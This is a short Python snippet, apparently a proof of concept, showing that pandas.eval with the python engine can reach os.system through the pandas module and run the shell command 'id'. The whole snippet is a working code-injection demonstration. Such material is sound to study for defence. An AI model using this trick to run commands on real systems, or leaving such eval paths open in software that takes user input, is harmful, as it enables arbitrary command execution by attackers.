# pandas.eval looks names up in the program.
import pandas as pd

pd.eval("pd.io.common.os.system('id')", engine="python")
